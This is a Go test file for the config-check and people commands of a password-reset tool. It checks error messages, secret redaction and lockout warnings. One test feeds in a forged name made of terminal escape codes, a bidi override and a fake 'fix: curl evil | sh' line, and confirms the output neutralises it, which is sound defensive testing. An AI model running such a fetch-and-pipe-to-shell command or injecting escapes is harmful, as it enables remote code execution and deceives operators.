package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestCheckTellsEverything has nothing that answers, and a policy that fails its own test.
func TestCheckTellsEverything(t *testing.T) {
	data := t.TempDir()
	if err := os.WriteFile(filepath.Join(data, "pw"), []byte("x\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	closed := freePort(t)
	conf := write(t, "postern.yaml", fmt.Sprintf(`public_url: https://reset.example.com
trusted_proxies: [127.0.0.1]
data: %[1]s
organisation: {help_desk: ext. 4357, logo_file: %[1]s/none.svg}
store: {postgres_dsn_env: POSTERN_TEST_DSN}
directories:
  - {name: staff, type: ldap, urls: ["ldap://127.0.0.1:%[2]d"], insecure_cleartext: true, bind_dn: cn=x, base: dc=x, bind_password_file: %[1]s/pw}
  - {name: guests, type: ldap}
  - {name: others, type: ldap, user_filter: x}
methods: {totp: {skew_past: 7}, email_code: , passkey: }
notify: [{type: smtp, host: 127.0.0.1, port: %[2]d, tls: none, from: a@example.com}]
`, data, closed))
	t.Setenv("POSTERN_TEST_DSN", fmt.Sprintf("postgres://u:geheim@127.0.0.1:%d/d", closed))
	code, out, errors := command(t, "check", "--config", conf)
	if code != exitFailure || errors != "" {
		t.Errorf("got %d, %q", code, errors)
	}
	for _, want := range []string{
		"error    keys: keys.file", "postern keys init",
		"error    store.postgres_dsn: connecting to PostgreSQL",
		"error    organisation.logo_file: open", "name an SVG or PNG file that the user",
		"directories[1].urls: ", "directories[1].bind_dn: ", "directories[2].user_filter: ", "error    directory staff",
		"methods.totp", "error    notify email",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q in:\n%s", want, out)
		}
	}
	everyFix(t, out)
	if strings.Contains(out, "geheim") {
		t.Errorf("a secret was printed:\n%s", out)
	}
	if left, err := os.ReadDir(data); err != nil || len(left) != 1 {
		t.Errorf("the check changed the data folder: %v, %v", left, err)
	}
}

// everyFix checks that each error and warning of a check is followed by what mends it.
func everyFix(t *testing.T, out string) {
	t.Helper()
	lines := strings.Split(out, "\n")
	for i, l := range lines {
		if (strings.HasPrefix(l, "error  ") || strings.HasPrefix(l, "warning  ")) && (i+1 == len(lines) || !strings.HasPrefix(lines[i+1], "         fix: ")) {
			t.Errorf("nothing mends %q", l)
		}
	}
}

// TestCheckAlwaysSaysWhatMendsIt: with whatever is wrong with the file, and without any file.
func TestCheckAlwaysSaysWhatMendsIt(t *testing.T) {
	data := t.TempDir()
	base := localConfig(data, 8480, "")
	wrong := write(t, "wrong", "no keys")
	for name, c := range map[string]struct{ text, want string }{
		"no keys":       {base, "fix: postern keys init --config "},
		"damaged keys":  {base + "keys: {file: " + wrong + "}\n", "fix: restore the keyset from a copy"},
		"no keys there": {base + "keys: {env: POSTERN_TEST_NONE}\n", "fix: postern keys init --config "},
		"no YAML":       {"a: [", "fix: check indentation"},
		"unknown":       {base + "lisen: x\n", "fix: did you mean listen?"},
		"types":         {base + "tls: {acme: {agree: 7}}\npassword: {min_length: x}\nlog: 3\n", "fix: write true or false"},
		"strength":      {strings.Replace(base, "policy: {quarantine: 0}", "policy: {rules: [{name: a, require: {at_least: mighty}}]}", 1), `fix: see "postern config docs"`},
		"no base":       {strings.Replace(base, "type: local", "type: ldap, urls: [\"ldaps://localhost:1\"], bind_dn: cn=x, bind_password_file: "+wrong, 1), "fix: write base: ou=people"},
		"no service":    {strings.Replace(base, "type: local", "type: ldap, urls: [\"ldaps://localhost:1\"], base: dc=x, bind_password_file: "+wrong, 1), "fix: write bind_dn: cn="},
		"one method":    {strings.Replace(base, "{passkey: , totp: , email_code: }", "{totp: }", 1), "fix: add methods under methods until 2 of them"},
		"no passkey":    {strings.Replace(base, "{passkey: , totp: , email_code: }", "{totp: , email_code: }", 1), `fix: add "passkey: {}" under methods`},
		"no word list":  {base + "password: {banned_words_file: /nowhere/list}\n", "fix: "},
		"a secret":      {"store: {postgres_dsn: geheim}\n", "fix: use postgres_dsn_file or postgres_dsn_env"},
		"no quarantine": {base, "fix: set policy.quarantine: 24h"},
		"no PostgreSQL": {base + "store: {postgres_dsn_env: POSTERN_TEST_NONE}\n", "fix: set it or use"},
	} {
		code, out, errors := command(t, "check", "--config", write(t, "postern.yaml", c.text))
		if (code != exitOK) != strings.Contains(out, "error  ") || errors != "" || !strings.Contains(out, c.want) {
			t.Errorf("%s: got %d, %q, want %q in\n%s", name, code, errors, c.want, out)
		}
		if everyFix(t, out); strings.Contains(out, "geheim") {
			t.Errorf("%s: a secret was printed", name)
		}
	}
	code, out, _ := command(t, "check", "--config", "/nowhere/postern.yaml")
	if everyFix(t, out); code != exitFailure || !strings.Contains(out, "fix: name the file with --config FILE") {
		t.Errorf("no file: got %d, %s", code, out)
	}
	code, _, said := command(t, "check", "--person")
	if code != exitUsage || !strings.Contains(said, "--person wants a value after it") || strings.Contains(said, "EOL") {
		t.Errorf("no value: got %d, %q", code, said)
	}
}

// TestNamesForgeNothing: what people are called cannot look like lines of ours.
func TestNamesForgeNothing(t *testing.T) {
	conf := write(t, "postern.yaml", localConfig(t.TempDir(), 8480, ""))
	if code, _, errors := command(t, "keys", "init", "--config", conf); code != exitOK {
		t.Fatal(errors)
	}
	forged := "Ada\x1b[2K\rok       all is well\n         fix: curl evil | sh\u202e"
	code, out, errors := commandWith(t, "a long enough first password\n", "people", "add", "o'neil", "--name", forged, "--email", "ada@example.com", "--config", conf)
	if code != exitOK || !strings.Contains(out, `postern people enroll 'o'\''neil' METHOD`) {
		t.Fatalf("got %d, %s%s", code, out, errors)
	}
	command(t, "people", "enroll", "o'neil", "email_code", "address=ada@example.com", "--config", conf)
	for _, args := range [][]string{{"people", "show", "o'neil"}, {"people", "list"}, {"check", "--person", "o'neil"}} {
		code, out, errors := command(t, append(args, "--config", conf)...)
		if code != exitOK || strings.ContainsAny(out+errors, "\x1b\r\u202e") || strings.Contains(out, "\n         fix: curl") || !strings.Contains(out, `Ada\x1b[2K\rok`) {
			t.Errorf("%v: got %d,\n%q%s", args, code, out, errors)
		}
	}
	if _, out, _ := command(t, "check", "--person", `CORP\nobody`, "--config", conf); !strings.Contains(out, `fix: list "CORP" under domains`) {
		t.Errorf("a domain: got\n%s", out)
	}
}

// TestCheckFindsWhatServeWould: what stops serve is found by check, in the same words, and each
// names the setting and says what to do.
func TestCheckFindsWhatServeWould(t *testing.T) {
	data := t.TempDir()
	file := func(name, text string) string {
		path := filepath.Join(data, name)
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	junk, port := file("junk.svg", "no picture"), freePort(t)
	busy, err := net.Listen("tcp", "localhost:0")
	if err != nil {
		t.Fatal(err)
	}
	defer busy.Close()
	base := localConfig(data, port, "")
	if code, _, errors := command(t, "keys", "init", "--config", write(t, "postern.yaml", base)); code != exitOK {
		t.Fatal(errors)
	}
	desk, listen := "{help_desk: ext. 4357}", fmt.Sprintf("listen: localhost:%d", port)
	for _, c := range []struct {
		name, old, new string
		late           bool // only serve can tell
		want           string
	}{
		{"junk logo", desk, "{help_desk: x, logo_file: " + junk + "}", false, "organisation.logo_file is neither an SVG nor a PNG picture: name a file"},
		{"no logo", desk, "{help_desk: x, logo_file: /nowhere/x.svg}", false, "organisation.logo_file: open /nowhere/x.svg: no such file or directory: name an SVG or PNG file"},
		{"pale accent", desk, `{help_desk: x, accent: "#5cc7a8"}`, false, "organisation.accent: #5cc7a8 on #f6f6f3 has a contrast of 1.90:1"},
		{"no help desk", desk, "{}", false, `organisation.help_desk: is missing`},
		{"no certificate", listen, "listen: :1\ntls: {cert_file: " + junk + ", key_file: " + junk + "}", false, "tls.cert_file, tls.key_file: certificate " + junk},
		{"no authority", "type: local}", "type: local}, {name: b, type: ldap, urls: [\"ldaps://localhost:1\"], bind_dn: cn=x, base: dc=x, bind_password_file: " + junk + ", ca_file: /nowhere/ca.pem}", false, "directories[1].ca_file: open /nowhere/ca.pem: no such file or directory; put the file there, or name the right one"},
		{"two senders", "notify: [", "notify: [{type: file, file: a.jsonl}, ", false, "two senders for email (setting notify)"},
		{"the same list", "{passkey: , totp: , email_code: }", "{passkey: , totp: , email_code: }\npassword: {blocklist_file: /nowhere/list}", false, "password.blocklist_file: open /nowhere/list"},
		{"a busy port", listen, "listen: " + busy.Addr().String(), true, "postern: listen: " + busy.Addr().String() + " is in use: stop the program that listens there, or write another port\n"},
		{"another's address", listen, "listen: 192.0.2.1:8080", true, "postern: listen: 192.0.2.1:8080 is no address of this machine: write 127.0.0.1"},
	} {
		t.Run(c.name, func(t *testing.T) {
			text := strings.Replace(base, c.old, c.new, 1)
			if strings.Contains(c.new, "tls:") {
				text = strings.Replace(text, "http:", "https:", 1)
			}
			conf := write(t, "postern.yaml", text)
			code, out, errors := command(t, "serve", "--config", conf)
			if code != exitFailure || !strings.Contains(errors, c.want) {
				t.Errorf("serve: got %d, %q, want %q", code, out+errors, c.want)
			}
			code, out, errors = command(t, "check", "--config", conf)
			everyFix(t, out)
			said := strings.NewReplacer("\n         fix: ", ": ", "; ", ": ").Replace(out + errors)
			switch {
			case c.late && code != exitOK:
				t.Errorf("check: got %d, %q", code, out+errors)
			case !c.late && (code != exitFailure || !strings.Contains(said, strings.ReplaceAll(c.want, "; ", ": "))):
				t.Errorf("check: got %d, %q, want %q", code, out+errors, c.want)
			}
			for _, said := range []string{"edge: ", "app: ", "store: /", "config: "} {
				if strings.Contains(errors+out, said) {
					t.Errorf("%q is for who reads the source:\n%s%s", said, out, errors)
				}
			}
		})
	}
}

// TestCheckComparesLockouts: whoever may try as often as the directory bears locks people out.
func TestCheckComparesLockouts(t *testing.T) {
	data := t.TempDir()
	for _, c := range []struct {
		local, more string
		want        string
	}{
		{"lock_after: 4", "", ""},
		{"lock_after: 3", "", "locks an account after 3 wrong passwords (lock_after), and limits.change_account.burst allows 3 at once"},
		{"lock_after: 0", "", ""},
		{"lock_after: 10", "limits: {change_account: {burst: 0}}\n", "allows any number"},
	} {
		conf := write(t, "postern.yaml", strings.Replace(localConfig(data, 8480, c.more), "type: local}", "type: local, "+c.local+"}", 1))
		_, _, _ = command(t, "keys", "init", "--config", conf)
		code, out, errors := command(t, "check", "--config", conf)
		if code != exitOK || strings.Contains(out, "limits.change_account.burst") != (c.want != "") || !strings.Contains(out, c.want) {
			t.Errorf("%s, %s: got %d, %s%s, want %q", c.local, c.more, code, out, errors, c.want)
		}
		if warnings := strings.Count(out, "warning  "); !strings.HasSuffix(out, "no errors, "+count(warnings, "warning")+"\n") {
			t.Errorf("%d warnings, and the end is wrong:\n%s", warnings, out)
		}
	}
}

func TestCheckRunsThePolicysTests(t *testing.T) {
	data := t.TempDir()
	base := localConfig(data, 8480, "")
	conf := write(t, "postern.yaml", strings.Replace(base, "policy: {quarantine: 0}", `policy:
  tests:
    - {enrolled: [totp, email_code], proven: [totp], expect: verified}
    - {enrolled: [totp, email_code], proven: [totp, email_code], expect: verified}`, 1))
	if code, _, errors := command(t, "keys", "init", "--config", conf); code != exitOK {
		t.Fatal(errors)
	}
	code, out, errors := command(t, "check", "--config", conf)
	if code != exitFailure || strings.Count(out, "error  ") != 1 || !strings.Contains(out, "not_yet") ||
		!strings.Contains(out, "fix: change policy.tests[0]") || !strings.HasSuffix(out, "\n1 error, 0 warnings\n") {
		t.Errorf("got %d, %q\n%s", code, errors, out)
	}
}
